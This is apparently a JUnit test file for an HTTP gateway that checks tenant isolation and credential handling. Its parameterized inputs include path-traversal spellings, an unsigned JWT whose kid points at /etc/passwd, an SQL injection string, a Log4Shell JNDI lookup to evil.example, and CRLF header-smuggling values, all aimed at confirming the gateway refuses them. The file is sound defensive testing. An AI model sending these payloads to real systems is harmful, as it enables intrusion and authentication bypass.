package io.andon.gateway.http.admission;

import static org.assertj.core.api.Assertions.assertThat;

import io.andon.gateway.access.auth.Scope;
import io.andon.gateway.http.Action;
import io.andon.gateway.testing.Answer;
import io.andon.gateway.testing.Fixtures;
import io.andon.gateway.testing.TestGateway;
import io.andon.schema.internal.User;
import java.io.IOException;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class CredentialAttacksTest {
  private static final String INCIDENTS = "/spaces/plant/incidents";
  private final TestGateway gateway = new TestGateway();

  @AfterEach
  void close() {
    gateway.close();
  }

  private record Attempt(String method, String path) {}

  /** Every route that names a space, there now or added later. */
  private List<Attempt> attempts(String slug) {
    List<Attempt> attempts = new ArrayList<>();
    gateway.surfaces.stream()
        .flatMap(surface -> surface.routes().stream())
        .filter(route -> route.pattern().contains("{slug}"))
        .forEach(
            route ->
                attempts.add(
                    new Attempt(
                        route.method().name(),
                        route.pattern().replace("{slug}", slug).replaceAll("\\{[^}]+}", "x"))));
    assertThat(attempts).hasSizeGreaterThan(15);
    return attempts;
  }

  @Test
  void foreignCredentialsFindNothingWhateverThePath() {
    User foreigner = gateway.userOf("other", "ana", user -> {}, Scope.values());
    List<String> session =
        List.of("Cookie", gateway.session(foreigner), "Sec-Fetch-Site", "same-origin");
    List<String> key = List.of("X-API-Key", gateway.keyOf("other", k -> {}, Scope.values()));
    List<Attempt> existing = attempts("plant");
    List<Attempt> missing = attempts("no-such-space");
    for (int i = 0; i < existing.size(); i++) {
      for (List<String> headers : List.of(session, key)) {
        Answer there = send(existing.get(i), headers);
        assertThat(there.status()).as("%s", existing.get(i)).isEqualTo(404);
        assertThat(there.text()).isEqualTo(send(missing.get(i), headers).text());
      }
    }
    assertThat(gateway.commands.taken).isEmpty();
    assertThat(gateway.events.alerts).isEmpty();
  }

  private Answer send(Attempt attempt, List<String> headers) {
    List<String> all = new ArrayList<>(headers);
    all.addAll(List.of("Content-Type", "application/json"));
    return gateway.raw(attempt.method(), attempt.path(), "{}".getBytes(Fixtures.UTF8), all);
  }

  @Test
  void noRouteIsOpenByOversight() {
    List<String> open =
        gateway.surfaces.stream()
            .flatMap(surface -> surface.routes().stream())
            .filter(route -> route.action() instanceof Action.Opens)
            .map(route -> route.method().name() + " " + route.pattern())
            .toList();

    assertThat(open).containsExactly("POST /api/session", "DELETE /api/session");
    for (Attempt attempt : attempts("plant")) {
      assertThat(send(attempt, List.of()).status()).as("%s", attempt).isEqualTo(401);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/spaces/plant/../other/incidents",
        "/spaces/other/../plant/incidents",
        "/spaces/plant%2F..%2Fother/incidents",
        "/spaces/%70lant/incidents",
        "/spaces/PLANT/incidents",
        "/spaces/plant%00/incidents",
        "/spaces/plant;x=y/incidents",
        "/spaces//plant/incidents",
        "/spaces/plant%20/incidents",
      })
  void noSpellingOfAPathGetsAround(String path) throws IOException {
    String answer =
        raw(
            "GET " + path + " HTTP/1.1",
            "X-API-Key: " + gateway.keyOf("other", k -> {}, Scope.ADMIN));

    assertThat(answer).matches("(?s)HTTP/1.1 (400|404) .*").doesNotContain("\"items\"");
  }

  private String raw(String requestLine, String... headers) throws IOException {
    try (Socket socket = new Socket("127.0.0.1", gateway.port())) {
      String request =
          requestLine
              + "\r\nHost: x\r\nConnection: close\r\n"
              + String.join("\r\n", headers)
              + "\r\n\r\n";
      socket.getOutputStream().write(request.getBytes(Fixtures.UTF8));
      return new String(socket.getInputStream().readAllBytes(), Fixtures.UTF8);
    }
  }

  @Test
  void aHolderOfAKeyCannotNameAnotherSpace() {
    gateway.plant.downtime.add(Fixtures.downtimeRow("e1", Fixtures.NOW));
    String foreign = gateway.keyOf("other", k -> {}, Scope.DOWNTIME_READ);

    Answer answer =
        gateway.raw(
            "GET",
            "/api/v1/downtime?since=2020-01-01",
            null,
            List.of("X-API-Key", foreign, "Andon-Space", "plant"));

    assertThat(answer.status()).isEqualTo(200);
    assertThat(answer.json()).isEmpty();
  }

  static Stream<String> garbage() {
    return Stream.of(
        "x",
        "andon",
        "andon_",
        "andon__",
        "andon_admin_",
        "andon_admin_x",
        "andon_" + "0".repeat(12) + "_" + "A".repeat(43),
        "andon_../admin/key_" + "A".repeat(43),
        "admin/key",
        "user/plant/ana",
        "..",
        "eyJ..",
        "eyJhbGciOiJub25lIn0.e30.",
        "eyJhbGciOiJIUzI1NiJ9.e30.AAAA",
        "eyJhbGciOiJSUzI1NiIsImtpZCI6Ii4uLy4uL2V0Yy9wYXNzd2QifQ.e30.AAAA",
        "%00%0d%0a",
        "\"",
        "' OR 1=1 --",
        "${jndi:ldap://evil.example/x}",
        "é",
        "a".repeat(7000));
  }

  @ParameterizedTest
  @MethodSource("garbage")
  void garbageIsRefusedWithoutMuchAdo(String text) {
    for (List<String> headers :
        List.of(
            List.of("Authorization", "Bearer " + text),
            List.of("X-API-Key", text),
            List.of("Cookie", "andon_session=" + text))) {
      Answer answer = gateway.raw("GET", INCIDENTS, null, headers);
      assertThat(answer.status()).as("%s", headers).isEqualTo(401);
      assertThat(answer.header("WWW-Authenticate")).isEqualTo("Bearer");
      assertThat(answer.text())
          .isIn(
              "{\"detail\":\"Invalid or expired API key\"}",
              "{\"detail\":\"The session is over, log in again\"}",
              "{\"detail\":\"Not authenticated\"}");
    }
  }

  @Test
  void whatIsTooLargeIsRefusedInJson() throws IOException {
    for (String header :
        List.of("Cookie: andon_session=", "X-API-Key: ", "Authorization: Bearer ")) {
      String answer = raw("GET " + INCIDENTS + " HTTP/1.1", header + "x".repeat(40_000));
      assertThat(answer).startsWith("HTTP/1.1 431").contains("{\"detail\":");
    }
  }

  @Test
  void severalCredentialsAreOneOfThem_notAMixture() throws IOException {
    String weak = gateway.key(Scope.VIEW_AUDIT);
    String strong = gateway.key(Scope.INCIDENTS_READ);
    String line = "GET " + INCIDENTS + " HTTP/1.1";

    assertThat(raw(line, "Authorization: Bearer " + weak, "Authorization: Bearer " + strong))
        .startsWith("HTTP/1.1 403");
    assertThat(raw(line, "Authorization: Bearer " + weak, "X-API-Key: " + strong))
        .startsWith("HTTP/1.1 403");
    assertThat(raw(line, "Authorization: Bearer " + weak + ", " + strong))
        .startsWith("HTTP/1.1 401");
    assertThat(raw(line, "Cookie: andon_session=x; andon_session=y")).startsWith("HTTP/1.1 401");
  }

  @ParameterizedTest
  @ValueSource(strings = {"plant\\r\\nSet-Cookie: a=b", "plant\\u0000", "plant\\u2028x"})
  void noHeaderCanBeSmuggledIntoAnAnswer(String space) {
    Answer answer = gateway.logIn(space, "ana", TestGateway.PASSWORD);

    assertThat(answer.status()).isIn(401, 422);
    assertThat(answer.header("Set-Cookie")).isEmpty();
  }

  @Test
  void noCredentialOfOneKindPassesForAnother() {
    User ana = gateway.user("ana", "Ana", Scope.ADMIN);
    String token = gateway.session(ana).substring("andon_session=".length());

    for (List<String> headers :
        List.of(
            List.of("Authorization", "Bearer " + token),
            List.of("X-API-Key", token),
            List.of("Cookie", "andon_session=" + gateway.key(Scope.ADMIN)),
            List.of("Cookie", "andon_session=" + TestGateway.ADMIN_KEY),
            List.of("Cookie", "X-API-Key=" + TestGateway.ADMIN_KEY))) {
      assertThat(gateway.raw("GET", INCIDENTS, null, headers).status())
          .as("%s", headers)
          .isEqualTo(401);
    }
  }
}
